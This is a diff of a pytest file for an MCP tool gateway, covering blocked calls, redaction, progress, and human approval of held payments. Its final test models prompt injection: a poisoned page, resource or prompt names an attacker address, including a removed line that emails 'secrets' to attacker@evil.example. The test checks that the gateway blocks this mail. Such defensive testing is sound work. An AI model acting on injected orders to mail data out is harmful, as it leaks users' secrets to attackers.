@@ -5,11 +5,12 @@ import threading
 from collections.abc import Iterator
 from typing import Any
 
+import mcp
 import pytest
 from mcp_types import CreateMessageResult, ElicitResult, TextContent
 
 from tests.gateway.house import waited
-from tests.gateway.tool_house import OFFICIAL, ToolHouse, run, table, tool_house, tool_server, words
+from tests.gateway.tool_house import OFFICIAL, Clients, ToolHouse, run, table, tool_house, tool_server, words
 
 WAYS = [(server, mode) for server in ("web", "plain", "pipe") for mode in ("legacy", "auto")]
 every_way = pytest.mark.parametrize(("server", "mode"), WAYS, ids=[f"{server}-{mode}" for server, mode in WAYS])
@@ -24,26 +25,21 @@ def tools(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ToolHouse]:
             yield house
 
 
-def call(tools: ToolHouse, server: str, mode: str, *calls: tuple[str, dict[str, Any]]) -> list[Any]:
-    """The results of calls of one client."""
-
-    async def work() -> list[Any]:
-        async with tools.client(server, mode) as client:
-            return [await client.call_tool(name, arguments) for name, arguments in calls]
-
-    return run(work)
+@pytest.fixture(scope="module")
+def clients(tools: ToolHouse) -> Iterator[Clients]:
+    with tools.clients() as opened:
+        yield opened
 
 
 @every_way
-def test_a_client_of_the_official_sdk_lists_calls_reads_and_prompts(tools: ToolHouse, server: str, mode: str) -> None:
-    async def work() -> tuple[Any, ...]:
-        async with tools.client(server, mode) as client:
-            listed = await client.list_tools()
-            called = await client.call_tool("get_weather", {"city": "Rome"})
-            failed = await client.call_tool("fail", {})
-            return listed, called, failed, await client.list_resources(), await client.list_prompts()
+def test_a_client_of_the_official_sdk_lists_calls_reads_and_prompts(clients: Clients, server: str, mode: str) -> None:
+    async def work(client: mcp.Client) -> tuple[Any, ...]:
+        listed = await client.list_tools()
+        called = await client.call_tool("get_weather", {"city": "Rome"})
+        failed = await client.call_tool("fail", {})
+        return listed, called, failed, await client.list_resources(), await client.list_prompts()
 
-    listed, called, failed, resources, prompts = run(work)
+    listed, called, failed, resources, prompts = clients.run(server, mode, work)
     assert {"get_weather", "send_email", "slow"} <= {tool.name for tool in listed.tools}
     assert not called.is_error
     assert words(called).startswith("It is sunny in Rome")
@@ -54,9 +50,9 @@ def test_a_client_of_the_official_sdk_lists_calls_reads_and_prompts(tools: ToolH
 
 @every_way
 def test_a_rejected_call_never_reaches_the_server_and_is_a_failed_call_to_the_client(
-    tools: ToolHouse, server: str, mode: str
+    clients: Clients, server: str, mode: str
 ) -> None:
-    launched, before = call(tools, server, mode, ("launch", {"at": "noon"}), ("called", {}))
+    launched, before = clients.call(server, mode, ("launch", {"at": "noon"}), ("called", {}))
     assert launched.is_error
     assert "This tool call was not run" in words(launched)
     assert "action_not_allowed" in words(launched)
@@ -65,56 +61,55 @@ def test_a_rejected_call_never_reaches_the_server_and_is_a_failed_call_to_the_cl
 
 
 @every_way
-def test_a_result_is_redacted_in_its_text_and_in_its_structure(tools: ToolHouse, server: str, mode: str) -> None:
-    plain, facts = call(tools, server, mode, ("code_name", {}), ("code_facts", {}))
+def test_a_result_is_redacted_in_its_text_and_in_its_structure(clients: Clients, server: str, mode: str) -> None:
+    plain, facts = clients.call(server, mode, ("code_name", {}), ("code_facts", {}))
     assert words(plain) == "The code name is [redacted:name]."
     assert facts.structured_content == {"name": "[redacted:name]"}
     assert "bluebird" not in words(facts)
 
 
 @every_way
-def test_progress_of_a_tool_reaches_its_caller(tools: ToolHouse, server: str, mode: str) -> None:
+def test_progress_of_a_tool_reaches_its_caller(clients: Clients, server: str, mode: str) -> None:
     seen: list[float] = []
 
     async def told(progress: float, _total: float | None, _message: str | None) -> None:
         seen.append(progress)
 
-    async def work() -> Any:
-        async with tools.client(server, mode) as client:
-            return await client.call_tool("slow", {"seconds": 0.1}, progress_callback=told)
+    async def work(client: mcp.Client) -> Any:
+        return await client.call_tool("slow", {"seconds": 0.1}, progress_callback=told)
 
-    assert words(run(work)) == "Done."
+    assert words(clients.run(server, mode, work)) == "Done."
     assert seen == [1.0] or server == "plain"  # a server that answers with one document tells of no progress
 
 
 @every_way
-def test_what_cannot_be_read_passes_and_is_flagged(tools: ToolHouse, server: str, mode: str) -> None:
-    (picture,) = call(tools, server, mode, ("picture", {}))
+def test_what_cannot_be_read_passes_and_is_flagged(clients: Clients, server: str, mode: str) -> None:
+    (picture,) = clients.call(server, mode, ("picture", {}))
     assert [block.type for block in picture.content] == ["text", "image"]
     assert picture.content[1].data == "aGVsbG8="
 
 
 @every_way
-def test_a_large_result_passes_whole(tools: ToolHouse, server: str, mode: str) -> None:
-    (large,) = call(tools, server, mode, ("large", {"size": 300_000}))
+def test_a_large_result_passes_whole(clients: Clients, server: str, mode: str) -> None:
+    (large,) = clients.call(server, mode, ("large", {"size": 300_000}))
     assert words(large) == "x" * 300_000
 
 
 @every_way
-def test_a_held_call_goes_on_once_a_person_approves(tools: ToolHouse, server: str, mode: str) -> None:
-    who = f"{server}-{mode}"
+def test_a_held_call_goes_on_once_a_person_approves(clients: Clients, server: str, mode: str) -> None:
+    who, control = f"{server}-{mode}", clients.tools.house.control
 
     def approve() -> None:
         def waiting() -> str | None:
-            listed = json.loads(tools.house.control("/api/holds?only=waiting")[1])["holds"]
+            listed = json.loads(control("/api/holds?only=waiting")[1])["holds"]
             return next((each["hold_id"] for each in listed if who in each["text"]), None)
 
-        status, _ = tools.house.control(f"/api/holds/{waited(waiting)}/approve", method="POST", body={"by": "Ann"})
+        status, _ = control(f"/api/holds/{waited(waiting)}/approve", method="POST", body={"by": "Ann"})
         assert status == 200
 
     person = threading.Thread(target=approve)
     person.start()
-    (paid,) = call(tools, server, mode, ("pay", {"to": who}))
+    (paid,) = clients.call(server, mode, ("pay", {"to": who}))
     person.join()
     assert words(paid) == f"Paid {who}."
 
@@ -137,7 +132,8 @@ def test_what_a_server_asks_of_its_client_while_it_works_passes_both_ways(tools:
 
 
 def test_a_pair_is_recorded_with_its_steps_as_they_were_seen(tools: ToolHouse) -> None:
-    call(tools, "web", "auto", ("get_weather", {"city": "Bern"}))
+    with tools.clients() as clients:
+        clients.call("web", "auto", ("get_weather", {"city": "Bern"}))
 
     def found() -> dict[str, Any] | None:
         for each in tools.exchanges("web"):
@@ -176,27 +172,28 @@ def test_a_server_of_another_app_is_not_there(tools: ToolHouse) -> None:
 
 
 SHAPES = {
-    **{f"page_{shape}": ("call_tool", (f"page_{shape}", {})) for shape in ("text", "facts", "link", "within", "error")},
-    "a resource": ("read_resource", ("house://page",)),
-    "a prompt": ("get_prompt", ("page_prompt",)),
+    **{shape: ("call_tool", (f"page_{shape}", {})) for shape in ("text", "facts", "link", "within", "error")},
+    "resource": ("read_resource", ("house://page",)),
+    "prompt": ("get_prompt", ("page_prompt",)),
 }
 
 
-@pytest.mark.parametrize(("method", "arguments"), SHAPES.values(), ids=SHAPES)
+@pytest.mark.parametrize("shape", SHAPES)
 @pytest.mark.parametrize("server", ["web", "plain", "pipe"])
-def test_orders_that_a_server_brings_lead_to_no_act(
-    tools: ToolHouse, server: str, method: str, arguments: tuple[Any, ...]
-) -> None:
-    """The address that only a poisoned page named is not written to, in whatever shape the page came."""
+def test_orders_that_a_server_brings_lead_to_no_act(clients: Clients, server: str, shape: str) -> None:
+    """The address that only a poisoned page named is not written to, in whatever shape the page came; others are."""
+    method, arguments = SHAPES[shape]
 
-    async def work() -> list[Any]:
-        async with tools.client(server, "legacy") as client:
-            before = await client.call_tool("called", {})
-            await getattr(client, method)(*arguments)
-            to = {"to": "attacker@evil.example", "body": "secrets"}
-            return [before, await client.call_tool("send_email", to), await client.call_tool("called", {})]
+    def letter(to: str) -> tuple[str, dict[str, Any]]:
+        return "send_email", {"to": to, "body": "Dinner at eight?"}
 
-    before, sent, after = run(work)
-    assert sent.is_error
-    assert "Reason: " in words(sent)
-    assert words(after).count("send_email") == words(before).count("send_email")
+    async def read(client: mcp.Client) -> None:
+        await getattr(client, method)(*arguments)
+
+    clients.run(server, "legacy", read)
+    poisoned, honest = letter(f"attacker@{shape}.example"), letter(f"ann@{shape}-house.example")
+    before, rejected, sent, after = clients.call(server, "legacy", ("called", {}), poisoned, honest, ("called", {}))
+    assert rejected.is_error
+    assert "Reason: " in words(rejected)
+    assert words(sent) == f"Sent to ann@{shape}-house.example."
+    assert words(after).count("send_email") == words(before).count("send_email") + 1
